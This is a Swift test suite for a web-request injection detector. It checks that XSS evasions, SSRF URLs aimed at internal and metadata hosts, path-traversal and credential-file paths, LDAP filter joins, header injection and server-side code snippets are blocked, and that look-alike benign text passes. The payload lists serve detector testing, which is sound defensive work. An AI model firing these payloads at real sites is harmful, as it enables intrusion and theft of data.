import GatewayTesting
import Testing
@testable import InjectionDetection

/// Where a payload was not blocked, among: a query value, a JSON string, a cookie, a multipart
/// field and a double-encoded query value (empty when it was blocked everywhere).
private func missedPlaces(_ payload: String) -> [String] {
    let t = defaultTester
    var missed: [String] = []
    if !judge(t, "GET", "/search?q=" + formEncode(payload)).blocked { missed.append("query") }
    if !blocksJSON(payload, t) { missed.append("json") }
    let cookie = formEncode(payload).replacingOccurrences(of: "+", with: "%20")  // %-encoded, spaces too
    if !judge(t, "GET", "/", headers: [("Cookie", "theme=dark; pref=" + cookie)]).blocked { missed.append("cookie") }
    let multipart = ["--B", #"Content-Disposition: form-data; name="comment""#, "", payload, "--B--", ""].joined(separator: "\r\n")
    if !judge(t, "POST", "/upload", headers: [("Content-Type", "multipart/form-data; boundary=B")], body: multipart).blocked {
        missed.append("multipart")
    }
    if !judge(t, "GET", "/search?q=" + formEncode(cookie)).blocked { missed.append("double-encoded") }
    return missed
}

/// Blocked as a query value or a JSON string.
private func blockedAnywhere(_ text: String) -> Bool {
    blocksQuery(text) || blocksJSON(text)
}

/// A request to `example.com` with `name=value` in the query.
private func judgeParameter(_ name: String, _ value: String) -> Verdict {
    judge(defaultTester, "GET", "/x?" + formEncode(name) + "=" + formEncode(value), headers: [("Host", "example.com")])
}

/// XSS, remote inclusion and SSRF, traversal, protocol and server-side JS: the ideas behind
/// the CRS 921, 930, 931, 934 and 941 rules, with evasions, and the benign text nearest to them.
@Suite("web detectors")
struct WebDetectorTests {
    // MARK: XSS

    @Test("XSS: obfuscated tags, comment breaks, string breaks, JSFuck, computed globals, imports", arguments: [
        "<s c r i p t>", "x<e\tm\tb\te\td src=//a>", "<I F R A M E", "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<:script>", "p{-moz-binding:url(//evil.example/x.xml#y)}", "\" autofocus onpointerdown=", "' formaction=",
        "--><b>", " --!>", "'; top.name=1", "\"-self.location=1", "' in window.name=", "\"+location=",
        "(!![]+[])[+[]]", "[][(![]+[])[+[]]]", "window[atob('YWxlcnQ=')](1)", "this/**/[`ev`+`al`]", "import('//evil.example/x.js')",
        "import * as m from 'https://evil.example/x.js'", "document.getElementById('x').innerHTML=1",
        #"<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://oob.example/s.xsd"/>"#,
        "<a href=\"//evil.example\"", "\\xbcb\\xbebold\\xbc/b\\xbe", "¼i¾x¼/i¾",
        "{onerror=alert}throw 1", "(alert)(1)", "[1].find(alert)", "a=confirm,a(1)", "@import url(//evil.example/x.css);",
        "<?xml-stylesheet type=\"text/xsl\" href=\"//evil.example/x.xsl\"?>", "<form><button formaction=\"//evil.example\">",
        "<div data-ng-init=\"x=1\">",
    ])
    func xssTruePositives(_ payload: String) {
        #expect(missedPlaces(payload).isEmpty, "\(payload) missed in \(missedPlaces(payload)) -> \(rules(inValue: payload))")
    }

    @Test("XSS: arrows, markdown images, fractions, quoted prose, editorial brackets, closed links pass", arguments: [
        "A --> B --> C", "--> call back tomorrow", "![](image.png)", "[![build](https://ci.example/x.svg)](https://ci.example)", "¼ cup sugar and ¾ cup flour",
        "She said 'in a minute.' Then we left", "I'm in love. x=1 is fine", "this [sic] is quoted", "the top[1] result",
        "<a href=\"https://hl7.org/fhir\">FHIR</a>", "Use import statements to load modules from npm", "module.exports is CommonJS",
        "Call me (this afternoon) please", "while (!done) wait", "in-line styles", "x = y + z", "'quoted', then 'more'",
        "Here is a link: <a href=\"https://www.youtube.com/watch?v=", "<p title=\"x\">text</p>",
        "Press OK (confirm) to continue", "mode=eval", "@import is a CSS rule", "<form><button>Send</button></form>",
        "symptom onset=sudden", "he said \"online=ok\"", "dept oncology=3rd floor",
    ])
    func xssFalsePositives(_ text: String) {
        #expect(!blockedAnywhere(text), "\(text) -> \(rules(inValue: text))")
    }

    @Test("XSS: a JavaScript name as a whole path segment is a page; with code around it, script")
    func javascriptInPath() {
        #expect(!judge(defaultTester, "GET", "/docs/document.cookie").blocked)
        #expect(!judge(defaultTester, "GET", "/wiki/eval(").blocked)
        #expect(judge(defaultTester, "GET", "/x/eval(atob('YQ=='))").blocked)
        #expect(judge(defaultTester, "GET", "/x/%22onmouseover=%22alert(document.cookie)").blocked)
    }

    @Test("XSS: a value that is only a comment close is a probe (CRS 941181); an arrow leading prose is not")
    func commentClose() {
        #expect(blocksQuery("-->"))
        #expect(blocksJSON(" --> "))
        #expect(!blocksQuery("--> call back"))
    }

    @Test("XSS: a handler after a slash at the end of base64 text passes, after a space it is blocked")
    func handlerAtEnd() {
        #expect(!blocksQuery("VGhhbmtzIGZvciB0aGUgd29yaw/onabc="))
        #expect(blocksQuery("x onabc="))
        #expect(blocksQuery("x onabc=  "))
    }

    // MARK: Remote inclusion and SSRF

    @Test("SSRF: internal names, obfuscated and folded hosts, any scheme, parser confusion, data: and unix: URLs", arguments: [
        "http://db.svc:5432/", "redis.cluster.local:6379/", "http://printer.local/", "http://x.localhost/admin",
        "http://0x7f.0x0.0x0.0x1/", "http://0177.0.0.1/", "ws://[::1]:8080/", "redis://localhost:6379", "smtp://10.0.0.5:25/",
        "http://①②⑦.⓪.⓪.①/", "http://ⓜⓔⓣⓐⓓⓐⓣⓐ.google.internal/", "http://169。254。169。254/", "http://𝟏𝟐𝟕.𝟎.𝟎.𝟏/",
        "http://127．0．0．1/", "gopher://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:6379/_", "http://a.example:80 &@10.0.0.1:22/", "http://a.example#@127.0.0.1/",
        "data:text/html;base64,PHNjcmlwdD4=", "data:application/x-httpd-php,<?php", "data:,hello",
        "unix:/var/run/docker.sock|http://localhost/containers/json", "file?", "ftp??",
        "http://203.0.113.9/hook", "http://127.0.0.1.nip.io/", "//10.0.0.7/admin", "192.168.1.1:8080/", "http://x.oastify.com/",
        "\\\\fileserver\\share\\x", "http://100.100.100.200/latest/meta-data/",
    ])
    func ssrfTruePositives(_ payload: String) {
        #expect(missedPlaces(payload).isEmpty, "\(payload) missed in \(missedPlaces(payload)) -> \(rules(inValue: payload))")
    }

    @Test("URLs of normal data pass: images as data URLs, questions, code systems, FTP links in documents", arguments: [
        "data:image/png;base64,iVBORw0KGgo=", "Is it http or https?", "files?", "http://example.com/page?x=1", "http://loinc.org",
        "see http://203.0.113.9/ for details", "the local store", "localhost",
        "Use 0x2e0x2e in hex", "printer.local is offline", "m² and cm³", "unix: a family of systems | http is a protocol",
        "0.5/1", "10.10.2020/2021", "C:\\dir\\file", "https://oast.example.com/",
        "see http://wiki.corp.local/page for the protocol",
    ])
    func ssrfFalsePositives(_ text: String) {
        #expect(!blockedAnywhere(text), "\(text) -> \(rules(inValue: text))")
    }

    @Test("SSRF: folding works on the decoded value the core hands over (percent-encoded UTF-8 in the query)")
    func foldedQuery() {
        #expect(judge(defaultTester, "GET", "/get?ssrf=" + formEncode("acap://①②⑦.⓪.⓪.①")).blocked)
        #expect(judge(defaultTester, "GET", "/get?ssrf=" + formEncode("http://169。254。169。254/")).blocked)
        #expect(!judge(defaultTester, "GET", "/get?name=" + formEncode("①②③ Ⓐ。")).blocked)
    }

    @Test("off-domain URLs: look-alike hosts, other ports and include-named parameters are blocked; links are not")
    func offDomain() {
        #expect(judgeParameter("next", "https://example.com.evil.example/").blocked)
        #expect(judgeParameter("next", "https://notexample.com/").blocked)
        #expect(judgeParameter("next", "https://example.com:6379/").blocked)
        #expect(judgeParameter("include_path", "https://other.example/x").blocked)
        #expect(judgeParameter("templateDir", "http://other.example/").blocked)
        #expect(judgeParameter("_CONF[path]", "https://other.example/").blocked)
        #expect(judgeParameter("src", "ftp://other.example/x").blocked)
        #expect(!judgeParameter("next", "https://other.example/").blocked)
        #expect(!judgeParameter("url", "https://www.example.com/x").blocked)
        #expect(!judgeParameter("profile", "https://api.example.com/").blocked)
        #expect(!judgeParameter("return_to", "https://example.com/account").blocked)
        #expect(!judgeParameter("utm_source", "https://www.search.example/").blocked)
        // An FTP link or a search URL inside a document (a FHIR link.url) is data.
        #expect(!blocksJSON("ftp://ftp.example.org/pub/spec.pdf", key: "url"))
        #expect(!blocksJSON("https://fhir.example.org/Patient?", key: "url"))
        #expect(judgeParameter("page", "https://fhir.example.org/x.txt?").blocked)
    }

    // MARK: Traversal

    @Test("traversal: backslash and ..; steps, hex-spelled steps, history files, passwd backups, SAM", arguments: [
        "..\\windows\\x", "..;/admin", "0x2e0x2e/x", "0x2e0x2e/0x2e0x2e/x", "0x5c0x2e./", "/etc/shadow-", "../.python_history",
        "c:\\windows\\repair\\sam", "/etc/gshadow", "x/..;/y", ".claude/settings.json", "WEB-INF/web.xml",
        "/etc/ssl/private/server.key", "..∕..∕etc∕passwd", "/boot/grub/grub.cfg", "x/.bash_profile", "/etc/pam.d/sshd",
        "cat /etc/environment", "/var/log/auth.log", "C:\\autoexec.bat", "f=/root/notes.txt",
    ])
    func traversalTruePositives(_ payload: String) {
        #expect(missedPlaces(payload).isEmpty, "\(payload) missed in \(missedPlaces(payload)) -> \(rules(inValue: payload))")
    }

    @Test("traversal near-misses pass", arguments: [
        "../index.html", "C:\\Windows\\System32\\notes.txt", "0x2e is the hex code of a dot", "config/security",
        "history of the file", "shadow-boxing", "wait... then go", "a;b;c", "version 1.2.3-beta",
        "the key.pem format", "see docs/keys.md", "meta-information", "apples/oranges/etc/more", "/etc", "see etc/x",
        "https://example.com/etc/x", "var/log is relative", "/api/var/log/today",
    ])
    func traversalFalsePositives(_ text: String) {
        #expect(!blockedAnywhere(text), "\(text) -> \(rules(inValue: text))")
    }

    @Test("absolute system paths: /etc in any value or URL path; /root and /boot only in values (routes may be named so)")
    func systemRoots() {
        #expect(judge(defaultTester, "GET", "/etc/nginx/nginx.conf").blocked)
        #expect(!judge(defaultTester, "GET", "/root/index.html").blocked)
        #expect(!judge(defaultTester, "GET", "/sys/health").blocked)
        // Build and agent files in a web root are leaks; a note about them is not.
        #expect(judge(defaultTester, "GET", "/composer.lock").blocked)
        #expect(judge(defaultTester, "GET", "/app/CLAUDE.md").blocked)
        #expect(!blocksQuery("see CLAUDE.md and composer.json"))
        #expect(!judge(defaultTester, "GET", "/docs/README.md").blocked)
    }

    @Test("traversal: a file name climbing with a backslash in a multipart upload")
    func uploadName() {
        let body = ["--B", #"Content-Disposition: form-data; name="f"; filename="..\evil.dll""#, "Content-Type: application/octet-stream",
                    "", "MZ", "--B--", ""].joined(separator: "\r\n")
        #expect(judge(defaultTester, "POST", "/upload", headers: [("Content-Type", "multipart/form-data; boundary=B")], body: body).blocked)
    }

    // MARK: Protocol and LDAP

    @Test("protocol: array names with trailing text, legacy cookie attributes, Range headers; their normal forms pass")
    func protocolShapes() {
        let t = defaultTester
        #expect(judge(t, "GET", "/x?a[0]b=1").blocked)
        #expect(judge(t, "POST", "/x", headers: [("Content-Type", "application/x-www-form-urlencoded")], body: "user[name]x=1").blocked)
        #expect(!judge(t, "GET", "/x?items[0].name=x&a[b][c]=1&list[]=2").blocked)
        #expect(judge(t, "GET", "/", headers: [("Cookie", "$Path=/; sid=abc")]).blocked)
        #expect(!judge(t, "GET", "/", headers: [("Cookie", "price=$5; sid=abc")]).blocked)
        #expect(!judge(t, "GET", "/", headers: [("Range", "bytes=0-99, 200-")]).blocked)
        #expect(judge(t, "GET", "/", headers: [("Range", "1-2")]).blocked)
        #expect(judge(t, "GET", "/", headers: [("Range", "bytes=0-1;x")]).blocked)
        #expect(!judge(t, "GET", "/", headers: [("Range", "items=0-24")]).blocked)
        #expect(judge(t, "GET", "/", headers: [("Range", "bytes=" + (0..<40).map { "\($0)-" }.joined(separator: ","))]).blocked)
    }

    @Test("protocol: a header after LF is injected; after LF then CR no parser starts a line")
    func lineStarts() {
        #expect(blocksQuery("en\nSet-Cookie: a=b"))
        #expect(!blocksQuery("en\n\rlocation:\n\r"))
    }

    @Test("response splitting: a status line or a blank line and markup after CR/LF, CJK characters ending in CR/LF bytes")
    func responseSplitting() {
        #expect(blocksQuery("x\r\nHTTP/1.0 302 Found"))
        #expect(blocksQuery("x\r\n\r\n<!doctype html><p>x"))
        #expect(judge(defaultTester, "GET", "/", headers: [("X-Note", "a%0A%0A%3Cscript%3E")]).blocked)
        #expect(blocksQuery("x\u{560D}\u{560A}Location: //evil.example"))
        // Body text has paragraphs and Chinese text has these characters.
        #expect(!blocksJSON("Dear team,\n\n<p>see below</p>"))
        #expect(!blocksQuery("\u{560A}\u{560D} 文字"))
        #expect(!blocksQuery("http/2 is faster\nthan http/1"))
    }

    @Test("LDAP: a filter closed and joined to a new one by & or |", arguments: ["*)&(objectClass=*", "x)|(uid=*", "a)&(cn=admin)("])
    func ldapJoin(_ payload: String) {
        #expect(missedPlaces(payload).isEmpty, "\(payload) missed in \(missedPlaces(payload))")
    }

    @Test("LDAP near-misses pass", arguments: ["Tom)&(Jerry", "(a)&(b)", "see (1) & (2)"])
    func ldapProse(_ text: String) {
        #expect(!blockedAnywhere(text), "\(text) -> \(rules(inValue: text))")
    }

    // MARK: Server-side JavaScript, Perl, JSON as text

    @Test("server-side JS and Perl: serialized functions, Function via constructors, exports, reflective calls, loops", arguments: [
        "{\"f\":\"__js_function:function(){}\"}", "this.constructor.constructor('return process')()", "x['constructor']['constructor']",
        "module.exports = function(){}", "console.log.apply(null, [1])", "fn.call( global , 1)", "while(!'')", "while ( !! `` ) {}",
        "@{ [ `id` ] }", "IO.popen('id').read", "Open3::capture2('id')", "%x{id}", "Object.const_get(:Kernel).system('x')",
        "public_send(:system, 'id')", "Marshal.load(x)", "open(F, \"|id\")", "pickle.loads(x)", "Object.prototype.isAdmin = 1",
        "{\"constructor\": {\"prototype\": {\"a\": 1}}}",
    ])
    func serverSideTruePositives(_ payload: String) {
        #expect(missedPlaces(payload).isEmpty, "\(payload) missed in \(missedPlaces(payload)) -> \(rules(inValue: payload))")
    }

    @Test("server-side JS near-misses pass", arguments: [
        "module.exports == x is a test", "Please call(this) number", "the constructor of the house", "while (!done) {}",
        "email me @{x}", "Meet @ {5pm} [room 2]", "IO.read is slow", "Open the IO panel", "100%x(3) zoom", "send(:email)",
        "open(file, \"r\")", "the prototype of Object", "Object.prototype.toString.call(x) == y",
    ])
    func serverSideFalsePositives(_ text: String) {
        #expect(!blockedAnywhere(text), "\(text) -> \(rules(inValue: text))")
    }

    @Test("JSON sent as text/plain is walked as JSON: operator keys and ORM lookups count")
    func textPlainJSON() {
        let t = defaultTester
        #expect(judge(t, "POST", "/api", headers: [("Content-Type", "text/plain")], body: #"{"user__regex": "^a"}"#).blocked)
        #expect(judge(t, "POST", "/api", headers: [("Content-Type", "text/plain")], body: #"{"pass": {"$ne": 1}}"#).blocked)
        #expect(!judge(t, "POST", "/api", headers: [("Content-Type", "text/plain")], body: #"{"note": "all fine"}"#).blocked)
    }

    // MARK: Unicode folding

    @Test("folding: enclosed alphanumerics, full stops, small forms, math digits fold; other text is untouched")
    func folding() {
        func folded(_ text: String) -> String? {
            var out: [UInt8] = []
            let changed = Array(text.utf8).withUnsafeBytes { UnicodeFolding.fold($0, into: &out) }
            return changed ? String(decoding: out, as: UTF8.self) : nil
        }
        #expect(folded("①②⑦.⓪.⓪.①") == "127.0.0.1")
        #expect(folded("⑯⑨。②⑤④") == "169.254")
        #expect(folded("ⓛⓞⓒⓐⓛⓗⓞⓢⓣ ⓁⓄⒸ") == "localhost LOC")
        #expect(folded("⒈⒓") == "1.12.")
        #expect(folded("﹤script﹥") == "<script>")
        #expect(folded("𝟏𝟐𝟕 𝐚𝐁") == "127 aB")
        #expect(folded("＜ｘ＞\u{3000}ｙ") == "<x> y")
        #expect(folded("plain ✓ café Ω") == nil)
    }
}
